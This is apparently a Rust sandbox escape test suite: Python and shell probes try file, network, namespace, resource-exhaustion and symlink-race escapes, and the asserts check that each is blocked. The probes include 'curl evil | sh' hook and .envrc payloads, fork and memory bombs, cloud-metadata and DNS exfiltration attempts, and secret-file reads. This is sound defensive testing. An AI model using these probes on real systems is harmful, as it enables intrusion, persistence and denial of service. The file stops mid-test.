//! The escape suite for the process backend: SECURITY.md classes A-K. Each test is named
//! after the attack it stops; the host plants canaries, a probe inside attacks, and both
//! the probe's report and the host-side evidence are checked.

mod common;

use std::os::fd::AsRawFd;
use std::time::Duration;

use common::*;
use strata::{Access, ByteSize, Capability, Caps, ErrorKind, LimitKind, Mount, Strictness, Tool};

/// A Python prelude giving probes `sc(nr, *args) -> (ret, errno)` via ctypes.
const SYSCALL: &str = r#"
import ctypes, os, errno
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def sc(nr, *args):
    ctypes.set_errno(0)
    r = libc.syscall(ctypes.c_long(nr), *[ctypes.c_long(a) for a in args])
    return r, ctypes.get_errno()
"#;

fn probe(code: &str) -> Tool {
    py(&format!("{SYSCALL}\n{code}"))
}

// ---------------------------------------------------------------- A: files

#[test]
fn blocks_writes_truncate_chmod_rename_and_link_on_read_only_grant() {
    let canary = Canary::new();
    let dir = canary.dir.path().display().to_string();
    let code = format!(
        r#"
import os
s = "{dir}/secret.txt"
results = []
for name, op in [
    ("write", lambda: open(s, "a").write("x")),
    ("truncate", lambda: os.truncate(s, 0)),
    ("chmod", lambda: os.chmod(s, 0o777)),
    ("rename", lambda: os.rename(s, s + ".moved")),
    ("link", lambda: os.link(s, "{dir}/hard")),
    ("unlink", lambda: os.unlink(s)),
    ("create", lambda: open("{dir}/new", "w")),
    ("utime", lambda: os.utime(s, (0, 0))),
]:
    try:
        op(); results.append(name + ":ALLOWED")
    except OSError as e:
        results.append(name + ":" + errno.errorcode[e.errno])
print(" ".join(results))
"#
    );
    let out = run(&probe(&code), &Caps::new().read_only(canary.dir.path()));
    let text = ok_stdout(&out);
    assert!(!text.contains("ALLOWED"), "{text}");
    assert!(canary.intact());
    assert!(!canary.dir.path().join("hard").exists() && !canary.dir.path().join("new").exists());
}

#[test]
fn blocks_hard_link_from_writable_mount_to_host_file() {
    let canary = Canary::new();
    let work = tempfile::tempdir().expect("tempdir");
    let code = format!(
        "import os\ntry:\n  os.link('{}', '{}/stolen'); print('LINKED')\nexcept OSError as e: print('denied', e.errno)",
        canary.secret.display(),
        work.path().display()
    );
    let out = run(&py(&code), &Caps::new().read_write(work.path()));
    assert!(ok_stdout(&out).starts_with("denied"), "{}", stdout(&out));
    assert!(!work.path().join("stolen").exists());
}

#[test]
fn blocks_odd_path_forms_to_hidden_files() {
    let canary = Canary::new();
    let secret = canary.secret.display().to_string();
    let code = format!(
        r#"
import os
paths = ["{secret}", "{secret}/", "//{secret}", "/./{secret}", "/tmp/../{secret}", "/proc/self/root{secret}", "/proc/1/root{secret}", "/dev/fd/../../..{secret}"]
for p in paths:
    try:
        print("READ", p, open(p).read())
    except OSError as e:
        print("denied", p, e.errno)
"#
    );
    let out = run(&py(&code), &Caps::new());
    let text = ok_stdout(&out);
    assert!(!text.contains("READ") && !text.contains(SECRET), "{text}");
}

#[test]
fn blocks_device_node_creation_and_raw_disk_access() {
    let code = r#"
import os, stat
for name, op in [
    ("mknod", lambda: os.mknod("/tmp/sda", 0o600 | stat.S_IFBLK, os.makedev(8, 0))),
    ("rawdisk", lambda: open("/dev/sda", "rb")),
    ("mem", lambda: open("/dev/mem", "rb")),
    ("kmsg", lambda: open("/dev/kmsg", "rb")),
]:
    try:
        op(); print(name, "ALLOWED")
    except OSError as e:
        print(name, "denied", e.errno)
"#;
    let out = run(&py(code), &Caps::new());
    let text = ok_stdout(&out);
    assert!(!text.contains("ALLOWED"), "{text}");
}

#[test]
fn blocks_fileless_exec_from_memfd() {
    let code = r#"
import os
fd = os.memfd_create("payload", 0)
os.write(fd, open("/bin/true", "rb").read())
try:
    os.execv(f"/proc/self/fd/{fd}", ["payload"])
except OSError as e:
    print("denied", e.errno)
"#;
    let out = run(&py(code), &Caps::new());
    assert!(ok_stdout(&out).starts_with("denied"), "{}", stdout(&out));
}

#[test]
fn blocks_exec_of_files_written_to_scratch() {
    let out = run(
        &sh("cp /bin/true /tmp/t && chmod +x /tmp/t && /tmp/t && echo EXECUTED"),
        &Caps::new(),
    );
    assert!(!stdout(&out).contains("EXECUTED"), "{}", stdout(&out));
    assert!(!out.success());
}

#[test]
fn nothing_written_outside_writable_mounts_survives_the_run() {
    let marker = "strata-persist-probe-3b1";
    let out = run(
        &sh(&format!(
            "echo x > /tmp/{marker} && echo x > /dev/shm/{marker} && ls /tmp"
        )),
        &Caps::new(),
    );
    assert!(ok_stdout(&out).contains(marker));
    assert!(
        !std::path::Path::new("/tmp").join(marker).exists(),
        "host /tmp untouched"
    );
    let out = run(
        &sh(&format!("ls /tmp /dev/shm; cat /tmp/{marker}")),
        &Caps::new(),
    );
    assert!(
        !stdout(&out).contains(marker),
        "a later run sees nothing: {}",
        stdout(&out)
    );
}

// ---------------------------------------------------------------- B: network

#[test]
fn blocks_udp_and_tcp_to_other_hosts_and_cloud_metadata() {
    let code = r#"
import socket
for host, port, kind in [("169.254.169.254", 80, socket.SOCK_STREAM), ("10.0.2.2", 53, socket.SOCK_DGRAM), ("1.1.1.1", 443, socket.SOCK_STREAM)]:
    s = socket.socket(socket.AF_INET, kind); s.settimeout(1)
    try:
        s.connect((host, port)); s.send(b"x"); print("SENT", host)
    except OSError as e:
        print("denied", host, e.errno)
"#;
    let out = run(&py(code), &Caps::new());
    let text = ok_stdout(&out);
    assert!(!text.contains("SENT"), "{text}");
}

#[test]
fn blocks_dns_resolution_and_exfiltration() {
    let code = r#"
import socket
try:
    print("RESOLVED", socket.getaddrinfo("exfil-canary.example.com", 53))
except OSError as e:
    print("denied", e.errno)
"#;
    let out = run(&py(code), &Caps::new());
    assert!(ok_stdout(&out).starts_with("denied"), "{}", stdout(&out));
}

#[test]
fn blocks_packet_vsock_and_netlink_audit_sockets() {
    let code = r#"
import socket
for fam, kind, proto, name in [(17, socket.SOCK_RAW, 0, "packet"), (40, socket.SOCK_STREAM, 0, "vsock"), (38, socket.SOCK_SEQPACKET, 0, "alg"), (16, socket.SOCK_RAW, 9, "netlink-audit")]:
    try:
        socket.socket(fam, kind, proto); print(name, "ALLOWED")
    except OSError as e:
        print(name, "denied", e.errno)
s = socket.socket(16, socket.SOCK_RAW, 0); print("netlink-route ok")
"#;
    let out = run(&py(code), &Caps::new());
    let text = ok_stdout(&out);
    assert!(!text.contains("ALLOWED"), "{text}");
    assert!(text.contains("netlink-route ok"), "{text}");
}

#[test]
fn blocks_host_abstract_and_path_unix_sockets() {
    use std::os::unix::net::UnixListener;
    let dir = tempfile::tempdir().expect("tempdir");
    let path = dir.path().join("daemon.sock");
    let _listener = UnixListener::bind(&path).expect("bind");
    let code = format!(
        r#"
import socket
for addr in ["\0strata-abstract-canary", "{path}", "/var/run/docker.sock", "/run/systemd/private"]:
    s = socket.socket(socket.AF_UNIX)
    try:
        s.connect(addr); print("CONNECTED", repr(addr))
    except OSError as e:
        print("denied", repr(addr), e.errno)
"#,
        path = path.display()
    );
    // The abstract listener lives in the host's network namespace.
    let abstract_listener = abstract_listener("strata-abstract-canary");
    let out = run(&py(&code), &Caps::new());
    let text = ok_stdout(&out);
    assert!(!text.contains("CONNECTED"), "{text}");
    drop(abstract_listener);
}

fn abstract_listener(name: &str) -> std::os::fd::OwnedFd {
    use std::os::fd::FromRawFd;
    // SAFETY: plain socket/bind/listen calls on a fresh fd with a valid sockaddr_un.
    unsafe {
        let fd = libc::socket(libc::AF_UNIX, libc::SOCK_STREAM, 0);
        assert!(fd >= 0);
        let mut addr: libc::sockaddr_un = std::mem::zeroed();
        addr.sun_family = libc::AF_UNIX as libc::sa_family_t;
        for (i, b) in name.bytes().enumerate() {
            addr.sun_path[i + 1] = b as libc::c_char;
        }
        let len = (std::mem::size_of::<libc::sa_family_t>() + 1 + name.len()) as libc::socklen_t;
        assert_eq!(
            libc::bind(fd, &addr as *const _ as *const libc::sockaddr, len),
            0
        );
        assert_eq!(libc::listen(fd, 1), 0);
        std::os::fd::OwnedFd::from_raw_fd(fd)
    }
}

#[test]
fn docker_socket_is_never_visible() {
    let out = run(
        &sh("ls -la /var/run/docker.sock /run/docker.sock 2>&1; echo done"),
        &Caps::new(),
    );
    let text = ok_stdout(&out);
    assert!(text.contains("No such file"), "{text}");
}

// ---------------------------------------------------------------- C: spawning

#[test]
fn blocks_nested_namespaces_and_mounting() {
    let code = r#"
for name, nr, args in [("unshare-user", 272, [0x10000000]), ("unshare-mnt", 272, [0x00020000]), ("clone-newuser", 56, [0x10000000 | 17, 0, 0, 0, 0]), ("setns", 308, [0, 0]), ("mount", 165, [0, 0, 0, 0, 0]), ("pivot_root", 155, [0, 0]), ("chroot", 161, [0])]:
    r, e = sc(nr, *args)
    print(name, r, errno.errorcode.get(e, e))
"#;
    let out = run(&probe(code), &Caps::new());
    let text = ok_stdout(&out);
    for line in text.lines() {
        assert!(line.contains(" -1 EPERM"), "{line}\n{text}");
    }
}

#[test]
fn setuid_binaries_gain_no_privilege() {
    // `su` is setuid root on Debian; nosuid mounts and no_new_privs make it powerless.
    let out = run(
        &sh("ls -l /usr/bin/su; grep -E 'CapEff|NoNewPrivs' /proc/self/status; su -c id root </dev/null 2>&1; echo rc=$?"),
        &Caps::new(),
    );
    let text = ok_stdout(&out);
    assert!(
        text.contains(&format!("CapEff:\t{}", kept_caps())),
        "{text}"
    );
    assert!(text.contains("NoNewPrivs:\t1"), "{text}");
    assert!(!text.contains("rc=0"), "su must fail: {text}");
}

#[test]
fn blocks_exec_outside_granted_trees() {
    // A host binary outside the granted trees does not exist inside: nothing runs.
    let cargo = std::env::var("CARGO").unwrap_or_else(|_| "/root/.cargo/bin/cargo".into());
    let err = sandbox()
        .run(&Tool::command([cargo.as_str(), "--version"]), &Caps::new())
        .expect_err("not visible");
    assert_eq!(err.kind(), ErrorKind::InvalidRequest, "{err}");
    // Executing it from a shell inside fails too.
    let out = run(&sh(&format!("{cargo} --version; echo rc=$?")), &Caps::new());
    assert!(stdout(&out).contains("rc=127"), "{}", stdout(&out));
}

// ---------------------------------------------------------------- D: exhaustion

#[test]
fn fork_bomb_is_contained_by_the_pids_limit() {
    if !require_root("fork_bomb_is_contained_by_the_pids_limit") {
        return;
    }
    let mut caps = Caps::new().timeout(Duration::from_secs(10));
    caps.limits.processes = 32;
    let out = run(
        &py("import os\nkids=0\ntry:\n  while True:\n    if os.fork()==0:\n      import time; time.sleep(30)\n    kids+=1\nexcept OSError as e:\n  print('refused after', kids, e.errno)\n  raise SystemExit(3)"),
        &caps,
    );
    assert!(stdout(&out).contains("refused after"), "{}", stdout(&out));
    assert_eq!(out.limit(), Some(LimitKind::Pids), "{}", out.status);
    assert!(out
        .receipt
        .denials
        .iter()
        .any(|d| d.capability == Capability::Pids));
}

#[test]
fn memory_bomb_is_killed_at_the_memory_limit() {
    if !require_root("memory_bomb_is_killed_at_the_memory_limit") {
        return;
    }
    let caps = Caps::new().memory(ByteSize::mib(64));
    let out = run(
        &py("x = []\nwhile True: x.append(bytearray(8 << 20))"),
        &caps,
    );
    assert_eq!(
        out.limit(),
        Some(LimitKind::Memory),
        "{} {}",
        out.status,
        stderr(&out)
    );
    assert!(
        out.usage.peak_memory_bytes <= 80 << 20,
        "peak {}",
        out.usage.peak_memory_bytes
    );
}

/// At the memory limit the kernel's OOM killer must find the tool killable: the helper holds
/// -1000 where the host lets it (CAP_SYS_RESOURCE), and neither init nor the tool may
/// inherit that (then nothing in the sandbox could be killed and the run would stall at its
/// limit instead of ending). The CI host here withholds CAP_SYS_RESOURCE, so the helper
/// itself is at 0 there; on a host that grants it this is what catches the inheritance.
#[test]
fn neither_init_nor_the_tool_inherits_the_helpers_oom_immunity() {
    let out = run(
        &sh("cat /proc/self/oom_score_adj /proc/1/oom_score_adj"),
        &Caps::new(),
    );
    let text = ok_stdout(&out);
    let scores: Vec<i32> = text.lines().filter_map(|l| l.trim().parse().ok()).collect();
    assert_eq!(scores.len(), 2, "{text}");
    assert!(scores.iter().all(|s| *s > -1000), "tool and init: {text}");
}

#[test]
fn tmpfs_and_shm_fill_stop_at_the_disk_limit() {
    let mut caps = Caps::new();
    caps.limits.disk = ByteSize::mib(4);
    let out = run(
        &sh("dd if=/dev/zero of=/dev/shm/fill bs=1M count=64 2>&1; exit 1"),
        &caps,
    );
    assert!(stdout(&out).contains("No space left"), "{}", stdout(&out));
    assert_eq!(out.limit(), Some(LimitKind::Disk), "{}", out.status);
}

#[test]
fn cpu_spin_is_killed_at_the_cpu_limit() {
    let mut caps = Caps::new().timeout(Duration::from_secs(20));
    caps.limits.cpu_time = Duration::from_secs(1);
    let out = run(&sh("while :; do :; done"), &caps);
    assert_eq!(out.limit(), Some(LimitKind::Cpu), "{}", out.status);
}

#[test]
fn cpu_spread_over_many_processes_is_capped_in_total() {
    if !require_root("cpu_spread_over_many_processes_is_capped_in_total") {
        return;
    }
    let mut caps = Caps::new().timeout(Duration::from_secs(30));
    caps.limits.cpu_time = Duration::from_secs(1);
    // Four spinners each stay under the per-process RLIMIT_CPU; the cgroup total does not.
    let out = run(
        &sh("for i in 1 2 3 4; do (while :; do :; done) & done; wait"),
        &caps,
    );
    assert_eq!(out.limit(), Some(LimitKind::Cpu), "{}", out.status);
    assert!(
        out.receipt.has(Capability::Cpu, "cgroup cpu accounting"),
        "{}",
        out.receipt
    );
}

#[test]
fn big_file_is_stopped_at_the_file_size_limit() {
    let work = tempfile::tempdir().expect("tempdir");
    let mut caps = Caps::new().read_write(work.path());
    caps.limits.file_size = ByteSize::mib(1);
    let target = format!("of={}/big", work.path().display());
    let out = run(
        &Tool::command(["dd", "if=/dev/zero", target.as_str(), "bs=64k", "count=100"]),
        &caps,
    );
    assert_eq!(out.limit(), Some(LimitKind::FileSize), "{}", out.status);
    let size = std::fs::metadata(work.path().join("big"))
        .map(|m| m.len())
        .unwrap_or(0);
    assert!(size <= 1 << 20, "file grew to {size}");
    // Programs that ignore SIGXFSZ (CPython does) get EFBIG instead; the cap still holds.
    let code = format!(
        "try:\n  open('{}/big2', 'wb').write(bytes(4 << 20))\nexcept OSError as e: print('denied', e.errno)",
        work.path().display()
    );
    let out = run(&py(&code), &caps);
    assert_eq!(ok_stdout(&out).trim(), "denied 27", "EFBIG");
    let size = std::fs::metadata(work.path().join("big2"))
        .map(|m| m.len())
        .unwrap_or(0);
    assert!(size <= 1 << 20, "file grew to {size}");
}

#[test]
fn stderr_flood_with_stdout_and_stdin_does_not_deadlock() {
    let mut caps = Caps::new().stdin(vec![b'y'; 1 << 20]);
    caps.limits.output = ByteSize::mib(8);
    let out = run(&sh("head -c 2000000 /dev/zero >&2 & cat; wait"), &caps);
    assert!(out.success(), "{}", out.status);
    assert_eq!(out.stdout.len(), 1 << 20);
    assert_eq!(out.stderr.len(), 2_000_000);
}

// ---------------------------------------------------------------- E: persistence

#[test]
fn sysv_shared_memory_does_not_persist_across_runs() {
    let create = "import ctypes\nlibc=ctypes.CDLL(None)\nprint(libc.shmget(0x5a5a, 4096, 0o1666))";
    let out = run(&py(create), &Caps::new());
    assert!(
        ok_stdout(&out)
            .trim()
            .parse::<i32>()
            .is_ok_and(|id| id >= 0),
        "{}",
        stdout(&out)
    );
    let check = "import ctypes\nlibc=ctypes.CDLL(None)\nprint(libc.shmget(0x5a5a, 4096, 0o666))";
    let out = run(&py(check), &Caps::new());
    assert_eq!(
        ok_stdout(&out).trim(),
        "-1",
        "a later run must not find the segment"
    );
    let host = std::process::Command::new("ipcs")
        .arg("-m")
        .output()
        .expect("ipcs");
    assert!(
        !String::from_utf8_lossy(&host.stdout).contains("0x00005a5a"),
        "host IPC untouched"
    );
}

#[test]
fn listening_socket_and_daemon_do_not_persist() {
    let marker = "4242.777";
    let out = run(
        &sh(&format!(
            "(setsid sleep {marker} &) ; (setsid sh -c 'sleep {marker}' &); echo spawned"
        )),
        &Caps::new(),
    );
    assert_eq!(ok_stdout(&out).trim(), "spawned");
    assert!(eventually(Duration::from_secs(2), || processes_with(
        marker
    )
    .is_empty()));
}

// ---------------------------------------------------------------- F: fds and the helper

#[test]
fn leaked_host_fd_is_not_inherited() {
    let canary = Canary::new();
    let file = std::fs::File::open(&canary.secret).expect("open");
    // Clear CLOEXEC: a careless embedder leaks this fd into every child.
    // SAFETY: fcntl on an fd we own.
    unsafe { libc::fcntl(file.as_raw_fd(), libc::F_SETFD, 0) };
    let code = format!(
        "import os\nprint(sorted(int(f) for f in os.listdir('/proc/self/fd')))\ntry:\n  print(os.read({fd}, 100))\nexcept OSError as e: print('closed', e.errno)",
        fd = file.as_raw_fd()
    );
    let out = run(&py(&code), &Caps::new());
    let text = ok_stdout(&out);
    assert!(text.contains("closed 9"), "{text}");
    assert!(!text.contains(SECRET));
    let fds = text.lines().next().unwrap_or_default();
    assert_eq!(fds, "[0, 1, 2, 3]", "only stdio (and listdir's own fd)");
}

#[test]
fn helper_binary_cannot_be_read_or_overwritten_through_proc() {
    let code = r#"
import os
for p in ["/proc/1/exe", "/proc/1/mem", "/proc/1/environ", "/proc/1/root/etc"]:
    for mode in ("rb", "r+b"):
        try:
            open(p, mode); print("OPENED", p, mode)
        except OSError as e:
            print("denied", p, mode, e.errno)
"#;
    let out = run(&py(code), &Caps::new());
    let text = ok_stdout(&out);
    assert!(!text.contains("OPENED"), "{text}");
    let helper = std::fs::read(helper()).expect("read helper");
    assert!(helper.starts_with(b"\x7fELF"), "helper intact");
}

// ---------------------------------------------------------------- G: path races

#[test]
fn grant_follows_symlinks_only_when_asked_and_receipt_shows_resolved_path() {
    let canary = Canary::new();
    let real = tempfile::tempdir().expect("tempdir");
    std::fs::write(real.path().join("data.txt"), "granted").expect("write");
    let links = tempfile::tempdir().expect("tempdir");
    let link = links.path().join("current");
    std::os::unix::fs::symlink(real.path(), &link).expect("symlink");
    let cat = Tool::command(["cat", &format!("{}/data.txt", link.display())]);

    let err = sandbox()
        .run(&cat, &Caps::new().read_only(&link))
        .expect_err("a symlinked grant is refused by default");
    assert_eq!(err.kind(), ErrorKind::InvalidRequest, "{err}");
    assert!(
        err.to_string()
            .contains(&format!("{} is a symlink", link.display())),
        "{err}"
    );

    let mount = Mount::new(link.clone(), link.clone(), Access::ReadOnly).follow_symlinks();
    let out = run(&cat, &Caps::new().with_mount(mount));
    assert_eq!(ok_stdout(&out), "granted");
    let receipt = out.receipt.to_string();
    assert!(
        receipt.contains(&format!(
            "{}={} (symlinks followed from {})",
            link.display(),
            real.path().display(),
            link.display()
        )),
        "the receipt names the resolved source: {receipt}"
    );
    assert!(canary.intact());
}

#[test]
fn grant_does_not_follow_a_symlink_planted_by_an_earlier_run() {
    let canary = Canary::new();
    let ws = tempfile::tempdir().expect("tempdir");
    let src = ws.path().join("src");
    std::fs::create_dir(&src).expect("mkdir");
    std::fs::write(src.join("main.py"), "print('hi')").expect("write");
    // Run 1 may write the workspace: it replaces src with a link to the secret directory.
    let out = run(
        &sh(&format!(
            "rm -rf {src} && ln -s {secret_dir} {src} && echo planted",
            src = src.display(),
            secret_dir = canary.dir.path().display()
        )),
        &Caps::new().read_write(ws.path()),
    );
    assert_eq!(ok_stdout(&out).trim(), "planted");
    assert!(std::fs::symlink_metadata(&src)
        .expect("link")
        .file_type()
        .is_symlink());
    // Run 2 is granted only src, read-only: refused before anything runs, naming the link.
    let marker = tempfile::tempdir().expect("tempdir");
    let flag = marker.path().join("ran");
    let steal = sh(&format!(
        "cat {}/secret.txt; touch {}",
        src.display(),
        flag.display()
    ));
    for grant in [src.clone(), src.join("nested")] {
        let caps = Caps::new().read_only(&grant).read_write(marker.path());
        let err = sandbox().run(&steal, &caps).expect_err("planted symlink");
        assert_eq!(err.kind(), ErrorKind::InvalidRequest, "{err}");
        let text = err.to_string();
        assert!(text.contains(&grant.display().to_string()), "{text}");
        assert!(
            text.contains(&format!("{} is a symlink", src.display())),
            "{text}"
        );
        assert!(
            text.contains("follow_symlinks"),
            "says how to opt in: {text}"
        );
        assert!(!text.contains(SECRET));
    }
    assert!(!flag.exists(), "nothing ran");
    assert!(canary.intact());
}

#[test]
fn grant_swapped_for_a_symlink_between_planning_and_mounting_fails_the_run() {
    use sandbox_os::backend_api::{plan, protocol, supervise};
    let canary = Canary::new();
    let ws = tempfile::tempdir().expect("tempdir");
    let src = ws.path().join("src");
    std::fs::create_dir(&src).expect("mkdir");
    let tool = sh(&format!("cat {}/secret.txt", src.display()));
    let caps = Caps::new().read_only(&src);
    // Planned while src is a real directory (uid and cgroup facts do not matter here).
    let facts = plan::Facts {
        uid: 0,
        gid: 0,
        cgroup_limits: false,
        mapped_identity: false,
    };
    let run = strata::RunSpec::new(&caps, &plan::RealHost).expect("run spec");
    let (spec, command) = plan::plan(&tool, run, &facts, &plan::RealHost).expect("plan");
    // Then swapped for a link to the secret before the helper mounts it.
    std::fs::remove_dir(&src).expect("rmdir");
    std::os::unix::fs::symlink(canary.dir.path(), &src).expect("symlink");
    let prepared = supervise::prepare(std::path::Path::new(helper()), &spec).expect("spawn");
    let outcome = supervise::run(
        prepared,
        &command,
        spec.timeout(),
        supervise::Input {
            bytes: &[],
            stream: None,
        },
        1 << 20,
        supervise::Watches::default(),
        &strata::RunContext::default(),
    )
    .expect("outcome");
    let failed = outcome.events.iter().find_map(|e| match e {
        protocol::Event::SetupFailed {
            stage, step, errno, ..
        } => Some((*stage, step.clone(), *errno)),
        _ => None,
    });
    let (stage, step, errno) =
        failed.expect("the helper refuses to mount through the swapped link");
    assert_eq!(stage, protocol::SetupStage::RootFs, "{step}");
    assert!(step.contains("open mount source"), "{step}");
    assert_eq!(errno, libc::ELOOP, "{step}");
    assert!(!outcome
        .events
        .iter()
        .any(|e| matches!(e, protocol::Event::Started)));
    assert!(!String::from_utf8_lossy(&outcome.stdout).contains(SECRET));
    assert!(canary.intact());
}

#[test]
fn outputs_are_copied_out_without_following_sandbox_symlinks() {
    // The sandbox can plant a symlink in its writable mount; the host only ever reads the
    // tool's output pipes, never paths inside the sandbox, so the link is inert.
    let canary = Canary::new();
    let work = tempfile::tempdir().expect("tempdir");
    let out = run(
        &sh(&format!(
            "ln -s {} {}/result.txt; echo planted",
            canary.secret.display(),
            work.path().display()
        )),
        &Caps::new().read_write(work.path()),
    );
    assert_eq!(ok_stdout(&out).trim(), "planted");
    let meta = std::fs::symlink_metadata(work.path().join("result.txt")).expect("link exists");
    assert!(meta.file_type().is_symlink());
    assert!(canary.intact());
}

// ---------------------------------------------------------------- E2: host-executed files in writable grants

const HOOK: &str = "#!/bin/sh\necho original hook\n";
const GIT_CONFIG: &str = "[core]\n\trepositoryformatversion = 0\n";
const ENVRC: &str = "export ORIGINAL=1\n";

/// A repository-shaped workspace: a hook, a git config, an `.envrc` and a source file.
struct Workspace {
    dir: tempfile::TempDir,
}

impl Workspace {
    fn new() -> Self {
        use std::os::unix::fs::PermissionsExt;
        let dir = tempfile::tempdir().expect("tempdir");
        let root = dir.path();
        for sub in [".git/hooks", ".git/objects", "src"] {
            std::fs::create_dir_all(root.join(sub)).expect("mkdir");
        }
        std::fs::write(root.join(".git/hooks/pre-commit"), HOOK).expect("hook");
        std::fs::set_permissions(
            root.join(".git/hooks/pre-commit"),
            std::fs::Permissions::from_mode(0o755),
        )
        .expect("chmod");
        std::fs::write(root.join(".git/config"), GIT_CONFIG).expect("config");
        std::fs::write(root.join(".envrc"), ENVRC).expect("envrc");
        std::fs::write(root.join("src/main.rs"), "fn main() {}\n").expect("src");
        Workspace { dir }
    }

    fn path(&self, rel: &str) -> std::path::PathBuf {
        self.dir.path().join(rel)
    }

    fn root(&self) -> String {
        self.dir.path().display().to_string()
    }

    fn mode(&self, rel: &str) -> u32 {
        use std::os::unix::fs::PermissionsExt;
        std::fs::symlink_metadata(self.path(rel))
            .expect("stat")
            .permissions()
            .mode()
            & 0o7777
    }

    fn names(&self, rel: &str) -> Vec<String> {
        let mut names: Vec<String> = std::fs::read_dir(self.path(rel))
            .expect("read_dir")
            .map(|e| e.expect("entry").file_name().to_string_lossy().into_owned())
            .collect();
        names.sort();
        names
    }

    /// The host-side evidence: every protected file as it was planted.
    fn assert_untouched(&self) {
        assert_eq!(
            std::fs::read_to_string(self.path(".git/hooks/pre-commit")).expect("hook"),
            HOOK
        );
        assert_eq!(self.mode(".git/hooks/pre-commit"), 0o755);
        assert_eq!(self.names(".git/hooks"), ["pre-commit"]);
        assert_eq!(
            std::fs::read_to_string(self.path(".git/config")).expect("config"),
            GIT_CONFIG
        );
        assert_eq!(
            std::fs::read_to_string(self.path(".envrc")).expect("envrc"),
            ENVRC
        );
        let top = self.names(".");
        assert!(
            top.iter()
                .all(|n| !n.starts_with(".git.") && n != ".envrc.new"),
            "{top:?}"
        );
    }
}

/// Runs each named Python expression in the sandbox and returns `name:ALLOWED` or
/// `name:ERRNO` per attack, one per line.
fn attacks(ws: &Workspace, caps: &Caps, attacks: &[(&str, &str)]) -> String {
    let mut code = format!("import os, errno\nws = {:?}\nresults = []\n", ws.root());
    for (name, body) in attacks {
        code.push_str(&format!(
            "def attack():\n    {}\ntry:\n    attack(); results.append('{name}:ALLOWED')\nexcept OSError as e:\n    results.append('{name}:' + errno.errorcode[e.errno])\n",
            body.replace('\n', "\n    ")
        ));
    }
    code.push_str("print('\\n'.join(results))\n");
    ok_stdout(&run(&py(&code), caps))
}

fn assert_all_denied(report: &str, count: usize) {
    assert_eq!(report.lines().count(), count, "{report}");
    assert!(!report.contains("ALLOWED"), "{report}");
}

#[test]
fn git_hook_in_rw_grant_cannot_be_written() {
    let ws = Workspace::new();
    let caps = Caps::new().read_write(ws.dir.path());
    let report = attacks(
        &ws,
        &caps,
        &[
            ("overwrite", "open(ws + '/.git/hooks/pre-commit', 'w').write('curl evil | sh')"),
            ("append", "open(ws + '/.git/hooks/pre-commit', 'a').write('curl evil | sh')"),
            ("truncate", "os.truncate(ws + '/.git/hooks/pre-commit', 0)"),
            ("chmod", "os.chmod(ws + '/.git/hooks/pre-commit', 0o4777)"),
            ("new_hook", "open(ws + '/.git/hooks/post-checkout', 'w').write('evil')"),
            ("delete", "os.unlink(ws + '/.git/hooks/pre-commit')"),
            (
                "delete_and_recreate",
                "os.unlink(ws + '/.git/hooks/pre-commit')\nopen(ws + '/.git/hooks/pre-commit', 'w').write('evil')",
            ),
            ("rename_hooks_away", "os.rename(ws + '/.git/hooks', ws + '/.git/hooks.old')"),
            ("remove_hooks_dir", "os.rmdir(ws + '/.git/hooks')"),
            (
                "replace_hook_by_rename",
                "open(ws + '/src/x', 'w').write('evil')\nos.rename(ws + '/src/x', ws + '/.git/hooks/pre-commit')",
            ),
        ],
    );
    assert_all_denied(&report, 10);
    ws.assert_untouched();
}

#[test]
fn git_config_and_git_dir_in_rw_grant_cannot_be_replaced() {
    let ws = Workspace::new();
    let caps = Caps::new().read_write(ws.dir.path());
    let report = attacks(
        &ws,
        &caps,
        &[
            ("write_config", "open(ws + '/.git/config', 'a').write('[core]\\n\\thooksPath = /tmp\\n')"),
            (
                "replace_config_by_rename",
                "open(ws + '/.git/config.lock', 'w').write('[core]\\n\\tfsmonitor = evil\\n')\nos.rename(ws + '/.git/config.lock', ws + '/.git/config')",
            ),
            ("delete_config", "os.unlink(ws + '/.git/config')"),
            (
                "rename_git_dir_aside",
                "os.rename(ws + '/.git', ws + '/.git.old')\nos.makedirs(ws + '/.git/hooks')\nopen(ws + '/.git/hooks/pre-commit', 'w').write('evil')",
            ),
        ],
    );
    assert_all_denied(&report, 4);
    ws.assert_untouched();
}

#[test]
fn envrc_in_rw_grant_cannot_be_replaced() {
    let ws = Workspace::new();
    let caps = Caps::new().read_write(ws.dir.path());
    let report = attacks(
        &ws,
        &caps,
        &[
            ("overwrite", "open(ws + '/.envrc', 'w').write('curl evil | sh')"),
            ("chmod", "os.chmod(ws + '/.envrc', 0o777)"),
            ("delete", "os.unlink(ws + '/.envrc')"),
            (
                "rename_over",
                "open(ws + '/.envrc.new', 'w').write('curl evil | sh')\nos.rename(ws + '/.envrc.new', ws + '/.envrc')",
            ),
            ("hard_link_elsewhere", "os.link(ws + '/.envrc', ws + '/src/envrc')"),
        ],
    );
    assert_all_denied(&report, 5);
    let _ = std::fs::remove_file(ws.path(".envrc.new"));
    ws.assert_untouched();
    assert!(!ws.path("src/envrc").exists());
}

#[test]
fn rw_grant_stays_writable_around_host_executed_paths_and_receipt_lists_them() {
    let ws = Workspace::new();
    let caps = Caps::new().read_write(ws.dir.path());
    // Honest work: edit sources, write git objects, git's lock-and-rename of its index.
    let out = run(
        &sh(&format!(
            "cd {root} && echo 'fn main() {{ println!(); }}' > src/main.rs && echo blob > .git/objects/ab \
             && echo idx > .git/index.lock && mv .git/index.lock .git/index && mkdir -p build && echo ok",
            root = ws.root()
        )),
        &caps,
    );
    assert_eq!(ok_stdout(&out).trim(), "ok");
    assert!(std::fs::read_to_string(ws.path("src/main.rs"))
        .expect("src")
        .contains("println"));
    assert_eq!(
        std::fs::read_to_string(ws.path(".git/index")).expect("index"),
        "idx\n"
    );
    assert!(ws.path(".git/objects/ab").exists() && ws.path("build").is_dir());
    ws.assert_untouched();
    let receipt = out.receipt.to_string();
    for protected in [".envrc", ".git/config", ".git/hooks"] {
        assert!(
            receipt.contains(&ws.path(protected).display().to_string()),
            "{protected} listed: {receipt}"
        );
    }
    assert!(
        out.receipt
            .has(Capability::Fs, "read-only binds over writable grants"),
        "{receipt}"
    );
    assert!(
        receipt.contains(&format!("{root}={root}", root = ws.root())),
        "the grant's resolved path: {receipt}"
    );
}

#[test]
fn host_executed_protection_can_be_opted_out() {
    let ws = Workspace::new();
    let caps = Caps::new()
        .read_write(ws.dir.path())
        .allow_host_executed_writes();
    let out = run(
        &sh(&format!(
            "echo 'echo edited' >> {root}/.git/hooks/pre-commit && echo 'export EDITED=1' > {root}/.envrc && echo ok",
            root = ws.root()
        )),
